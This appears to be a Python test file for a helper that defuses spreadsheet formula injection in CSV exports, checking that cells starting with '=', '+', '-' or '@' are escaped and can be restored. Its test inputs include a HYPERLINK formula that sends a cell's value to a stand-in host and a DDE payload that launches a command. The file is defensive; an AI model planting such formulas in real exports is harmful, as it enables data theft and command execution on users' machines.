"""No text of a person becomes a formula, and every text can be had back."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from probing.spreadsheets import inert, inert_frame, restored, write_csv

FORMULAS = (
    '=HYPERLINK("http://a.example/?x="&A1,"click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200b@a",
    "＝1+1",
    "－a",
    "'=1+1",
    "--",
    "- it was good",
)
HARMLESS = ("", "good", "-1", "+1.5", "-1,5", "-1e-5", "3 = 3", "a-b", "'tis", "…=", "1+1", "0")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_afterwards(text: str) -> None:
    assert inert(text) == "'" + text
    assert restored(inert(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays(text: str) -> None:
    assert inert(text) == text
    assert restored(text) == text


@given(st.text(alphabet="'=+-@ \t\r\n1.,ea＝\ufeff", max_size=6) | st.text(max_size=20))
def test_every_text_comes_back(text: str) -> None:
    assert restored(inert(text)) == text
    seen = inert(text).strip()
    assert seen[:1] not in ("=", "@")
    assert seen[:1] not in ("+", "-") or float(seen.replace(",", ".")) is not None


def test_a_table_is_made_safe_in_cells_and_names() -> None:
    frame = pd.DataFrame(
        {
            "=name": ["=1+1", "fine"],
            "label": pd.Categorical(["@a", "b"]),
            "x": [-1.5, np.nan],
            "n": [1, -2],
            "mixed": ["-a", None],
        }
    )
    file = io.BytesIO()
    write_csv(frame, file)
    text = file.getvalue().decode("utf-8-sig")
    assert file.getvalue().startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=name", "label", "x", "n", "mixed"],
        ["'=1+1", "'@a", "-1.5", "1", "'-a"],
        ["fine", "b", "", "-2", ""],
    ]
    assert frame["=name"].tolist() == ["=1+1", "fine"]
    assert inert_frame(frame)["x"].dtype == np.float64


def test_two_columns_of_one_name_both_stay() -> None:
    frame = pd.DataFrame([["=a", "=b"]], columns=["text", "text"])
    assert inert_frame(frame).to_numpy().tolist() == [["'=a", "'=b"]]
